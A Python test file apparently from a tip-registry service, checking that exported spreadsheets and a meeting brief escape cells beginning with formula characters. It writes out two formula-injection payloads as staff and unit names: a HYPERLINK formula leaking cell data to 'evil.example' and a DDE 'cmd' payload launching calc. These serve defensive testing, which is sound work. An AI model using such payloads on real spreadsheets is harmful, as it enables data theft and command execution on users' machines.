"""Every spreadsheet the service writes passes its cells through the formula guard (``ledger.safe_cell``): a
unit or staff name beginning with "=", "+", "-" or "@" is text in the meeting brief too, never a formula."""

from __future__ import annotations

import io
import re

from openpyxl import load_workbook

from service.platform.timeutil import local_date, utcnow
from tests.helpers import REPO_ROOT
from tests.helpers.app import auth, unique

WRITES_SPREADSHEETS = re.compile(r"csv\.writer|openpyxl|xlsxwriter|DictWriter")


def test_every_spreadsheet_writer_uses_the_guard() -> None:
    writers = [
        path
        for path in (REPO_ROOT / "service").rglob("*.py")
        if WRITES_SPREADSHEETS.search(path.read_text(encoding="utf-8"))
    ]
    assert writers, "no spreadsheet writer found: the pattern is wrong"
    unguarded = [str(p) for p in writers if "safe_cell" not in p.read_text(encoding="utf-8")]
    assert not unguarded, f"spreadsheet writers without the formula guard: {unguarded}"


async def test_the_meeting_brief_writes_no_formula(harness) -> None:  # type: ignore[no-untyped-def]
    unit_name = '=HYPERLINK("http://evil.example/"&A1,"点击")' + unique("")
    unit = await harness.add_unit(unit_name)
    _, supervisor = await harness.add_staff(unique("科长"), ["supervisor"], unit)
    handler_name = "+cmd|' /C calc'!A0" + unique("")
    handler_id, _ = await harness.add_staff(handler_name, ["investigator"], unit)
    response = await harness.client.post(
        "/api/v1/tips", json={"text": "民警收红包，案子压着不立。", "accused": {"unit": unique("某派出所")}}
    )
    assert response.status_code == 201
    number = response.json()["registry_number"]
    found = await harness.client.get(
        "/api/v1/clue-search", params={"registry_number": number}, headers=auth(supervisor)
    )
    clue_id = next(item["id"] for item in found.json() if item["registry_number"] == number)
    assigned = await harness.client.post(
        f"/api/v1/clues/{clue_id}/assign", json={"assignee_id": handler_id}, headers=auth(supervisor)
    )
    assert assigned.status_code == 200, assigned.text
    today = local_date(utcnow()).isoformat()
    exported = await harness.client.get(
        "/api/v1/brief.xlsx", params={"start": today, "end": today}, headers=auth(supervisor)
    )
    assert exported.status_code == 200
    workbook = load_workbook(io.BytesIO(exported.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"], "a cell became a formula"
    values = [str(c.value) for c in cells if c.value is not None]
    assert "'" + unit_name in values and "'" + handler_name in values
